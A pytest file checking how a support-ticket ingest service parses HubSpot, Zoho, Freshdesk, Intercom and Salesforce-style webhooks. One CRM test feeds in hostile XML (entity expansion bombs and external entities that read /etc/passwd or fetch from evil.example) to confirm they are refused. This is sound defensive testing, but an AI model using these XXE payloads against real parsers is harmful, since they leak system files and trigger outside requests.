"""What HubSpot, Freshdesk, Zoho Desk, Intercom and CRMs do that a recorded pair cannot say: own ids, bounds, credentials."""

import json
import time
from datetime import UTC, datetime
from typing import Any

import pytest

from services.ingest import adapters
from services.ingest.adapters import crm, freshdesk, hubspot, intercom, zoho
from services.ingest.adapters.channel import Delivery, Parsed, ParseError, Request

NOW = datetime(2026, 11, 20, 9, 15, 10, tzinfo=UTC)


def delivery(channel: str, body: Any, settings: Any = None, **headers: str) -> Delivery:
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    channel_settings = settings or adapters.CHANNELS[channel].settings()
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return Delivery(channel, "main", raw, NOW, headers=named, settings=channel_settings)


# ---------------------------------------------------------------------------------- HubSpot, Zoho


def test_one_delivery_names_no_end_of_messages() -> None:
    event = {"subscriptionType": "conversation.newMessage", "objectId": 1, "messageId": "m"}
    assert hubspot.parse(delivery("hubspot", [event] * 1_000)).ignored == "hint"
    with pytest.raises(ParseError):
        hubspot.parse(delivery("hubspot", [event] * 1_001))
    note = {"eventType": "Ticket_Comment_Add", "payload": {}}
    assert zoho.parse(delivery("zoho", [note] * 500)).ignored == "internal_note"
    with pytest.raises(ParseError):
        zoho.parse(delivery("zoho", [note] * 501))


def test_zoho_a_delivery_is_named_by_what_a_retry_repeats() -> None:
    event = {"eventType": "Ticket_Thread_Add", "eventTime": "1", "payload": {"id": "7", "x": 1}}
    names = [
        zoho._name_of(json.dumps(body).encode())
        for body in (
            [event],
            [{**event, "prevState": {}}],
            [{**event, "eventTime": "2"}],
            [event, event],
            [{**event, "eventTime": None}],
            [],
            "x",
        )
    ]
    assert names[0] is not None
    assert names[0] == names[1]
    assert len(set(names[:4])) == 3
    assert names[4:] == [None, None, None]


def test_zoho_what_an_agent_of_ours_wrote_is_an_echo() -> None:
    settings = zoho.Settings(own_ids=("support@acme.com",))
    thread = {
        "id": "1", "ticketId": "2", "direction": "out", "content": "We are on it.",
        "fromEmailAddress": '"Acme"<support@acme.com>', "author": {"type": "AGENT", "name": "Acme"},
    }  # fmt: skip
    event = {"eventType": "Ticket_Thread_Add", "payload": thread}
    assert zoho.parse(delivery("zoho", [event], settings)).ignored == "echo"


def test_zoho_events_of_another_organisation_are_left_out() -> None:
    event = {
        "eventType": "Ticket_Thread_Add",
        "orgId": "2",
        "payload": {"id": "1", "ticketId": "2"},
    }
    parsed = zoho.parse(delivery("zoho", [event], zoho.Settings(org_id="1")))
    assert parsed.ignored == "other_account"


# -------------------------------------------------------------------------------------- Freshdesk


@pytest.mark.parametrize(
    ("comment", "author", "rest"),
    [
        ('Ada : <div dir="ltr">Hi</div>', "Ada", '<div dir="ltr">Hi</div>'),
        ("Ada Lovelace: <div>Hi</div>", "Ada Lovelace", "<div>Hi</div>"),
        ("Ada :<div>Hi</div>", "Ada", "<div>Hi</div>"),
        ("<div>Ada : Hi</div>", "", "<div>Ada : Hi</div>"),
        ("Please note: it is broken", "", "Please note: it is broken"),
        ("no name at all", "", "no name at all"),
        ("Ayşe Öztürk : <p>Merhaba</p>", "Ayşe Öztürk", "<p>Merhaba</p>"),
    ],
)
def test_freshdesk_the_name_before_a_comment_is_told_from_its_text(
    comment: str, author: str, rest: str
) -> None:
    assert freshdesk._author(comment) == (author, rest)


def test_freshdesk_a_name_is_looked_for_in_linear_time() -> None:
    began = time.perf_counter()
    for comment in ("a " * 500_000, " " * 1_000_000, "a :" * 300_000):
        freshdesk._author(comment)
    assert time.perf_counter() - began < 1.0


def test_freshdesk_what_an_agent_of_ours_wrote_is_an_echo() -> None:
    settings = freshdesk.Settings(own_ids=("bot@shop.example", "Signalbox"))
    reply = {"id": 1, "body_text": "We are on it.", "from_email": "Shop <bot@shop.example>"}
    kept = {"ticket": {"id": 4242, "requester_id": 8}, "conversation": reply}
    fetched = delivery("freshdesk", kept, settings, x_signalbox_fetched="message")
    assert freshdesk.parse(fetched).ignored == "echo"
    call = {
        "ticket_id": 4242, "ticket_contact_name": "Ada", "ticket_contact_email": "ada@example.com",
        "ticket_latest_public_comment": "Signalbox : <div>We are on it.</div>",
    }  # fmt: skip
    assert freshdesk.parse(delivery("freshdesk", call, settings)).ignored == "echo"


def test_freshdesk_what_a_call_says_is_never_verified() -> None:
    call = {"ticket_id": 1, "ticket_description": "Hi", "ticket_contact_email": "ada@example.com"}
    parsed = freshdesk.parse(delivery("freshdesk", call))
    assert parsed.messages
    assert not parsed.verified


# --------------------------------------------------------------------------------------- Intercom


def test_intercom_a_redaction_takes_away_what_is_redacted_and_nothing_else() -> None:
    def part(number: str, **more: Any) -> dict[str, Any]:
        return {
            "id": number,
            "part_type": "comment",
            "body": "x",
            "author": {"type": "user", "id": "u"},
            **more,
        }

    def parsed(*parts: dict[str, Any]) -> Parsed:
        item = {"id": "5501", "conversation_parts": {"conversation_parts": parts}}
        note = {"topic": "conversation_part.redacted", "data": {"item": item}}
        return intercom.parse(delivery("intercom", note))

    assert [
        one.vendor_message_id for one in parsed(part("1"), part("2", redacted=True)).messages
    ] == ["2"]
    assert [one.vendor_message_id for one in parsed(part("1")).messages] == ["1"]
    assert parsed(part("1"), part("2")).messages == ()


# -------------------------------------------------------------------------------------------- CRM

HEAD = (
    '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"'
    ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><e:Body>'
    '<notifications xmlns="http://soap.sforce.com/2005/09/outbound">'
    "<OrganizationId>00D000000000001EAA</OrganizationId>"
)
TAIL = "</notifications></e:Body></e:Envelope>"
CASE = (
    "<Notification><Id>n</Id>"
    '<sObject xsi:type="sf:Case" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">'
    "<sf:Id>500A</sf:Id><sf:Subject>Hi</sf:Subject></sObject></Notification>"
)


def outbound(inner: str) -> bytes:
    return (HEAD + inner + TAIL).encode()


@pytest.mark.parametrize(
    "body",
    [
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><a>&b;</a>',
        b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><a/>',
        outbound("<x>" * 20 + "</x>" * 20),
        outbound("<x/>" * 20_001),
        outbound(CASE * 201),
        outbound(f"<SessionId>{'x' * 200_001}</SessionId>"),
        outbound("")[:-3],
        outbound("&undeclared;"),
        b"\xff\xfe" + outbound(CASE).decode().encode("utf-16-le"),
        b'<?xml version="1.0" encoding="utf-16"?>' + b"\x00<\x00a\x00/\x00>",
        b"<a/>",
        b"<",
    ],
    ids=range(13),
)
def test_crm_xml_that_is_hostile_or_no_outbound_message_is_refused(body: bytes) -> None:
    with pytest.raises(ParseError):
        crm.parse(delivery("crm", body))


def test_crm_hostile_xml_is_refused_in_linear_time() -> None:
    began = time.perf_counter()
    for inner in ("<SessionId" * 100_000, "<SessionId>" * 100_000, "<SessionId>" + "x" * 1_000_000):
        crm.scrub(outbound(inner))
    with pytest.raises(ParseError):
        crm.parse(delivery("crm", outbound("<a " + "b='1' " * 100_000 + "/>")))
    assert time.perf_counter() - began < 2.0


@pytest.mark.parametrize(
    "element",
    [
        "<SessionId>00D!SECRET</SessionId>",
        "<sf:SessionId xmlns:sf='urn:x'>00D!SECRET</sf:SessionId>",
        '<SessionId xsi:type="x">00D!SECRET</SessionId >',
        "<SessionId>\n00D!SECRET\n</SessionId>",
        "<SessionId><![CDATA[00D!SECRET]]></SessionId>",
    ],
)
def test_crm_the_session_id_of_salesforce_is_never_stored(element: str) -> None:
    body = outbound(f"{element}{CASE}")
    kept = crm.scrub(body)
    assert b"SECRET" not in kept
    parsed = crm.parse(delivery("crm", kept))
    assert [one.vendor_message_id for one in parsed.messages] == ["500A"]


def test_crm_json_is_stored_as_it_came() -> None:
    body = b'{"type": "case.created", "data": {"subject": "<SessionId>x</SessionId>"}}'
    assert crm.scrub(body) == body


def test_crm_an_outbound_message_is_acknowledged_as_salesforce_wants_it() -> None:
    request = Request(
        "POST",
        "https://in.example/v1/channels/crm/main/token-1",
        {"content-type": "text/xml"},
        outbound(CASE),
    )
    verdict = crm.verify(request, {"token": "token-1"}, NOW)
    assert (verdict.accepted, verdict.verified) == (True, False)
    assert verdict.respond.headers["Content-Type"].startswith("text/xml")
    acknowledged = verdict.respond.body
    assert "<Ack>true</Ack>" in acknowledged
    assert "notificationsResponse" in acknowledged
    assert acknowledged.startswith("<?xml")


def test_crm_organisations_are_the_same_with_fifteen_or_eighteen_characters() -> None:
    for org_id in ("00D000000000001", "00D000000000001EAA", ""):
        assert crm._of_organisation(outbound(CASE), org_id).accepted
    refused = crm._of_organisation(outbound(CASE), "00d000000000001")
    assert (refused.accepted, refused.respond.status) == (False, 403)


def test_crm_a_case_told_twice_is_one_message() -> None:
    """Once by our JSON and once by an Outbound Message, or in a second notification after a change."""
    told = {"type": "case.created", "data": {"case_id": "500A", "subject": "Hi"}}
    (by_json,) = crm.parse(delivery("crm", told)).messages
    (by_soap,) = crm.parse(delivery("crm", outbound(CASE))).messages
    assert by_json.vendor_message_id == by_soap.vendor_message_id
    assert by_json.thread == by_soap.thread


def test_crm_what_a_user_of_ours_wrote_is_an_echo() -> None:
    settings = crm.Settings(own_ids=("005A",))
    comment = {"id": "c", "body": "x", "from_customer": False, "author": {"id": "005A"}}
    told = {"type": "case.comment.created", "data": {"case_id": "500A", "comment": comment}}
    assert crm.parse(delivery("crm", told, settings)).ignored == "echo"


def test_crm_a_link_leads_to_the_case_where_the_instance_is_known() -> None:
    settings = crm.Settings(instance_url="https://acme.my.salesforce.com/")
    told = {"type": "case.created", "data": {"case_id": "500A", "subject": "Hi"}}
    (made,) = crm.parse(delivery("crm", told, settings)).messages
    assert made.url == "https://acme.my.salesforce.com/500A"
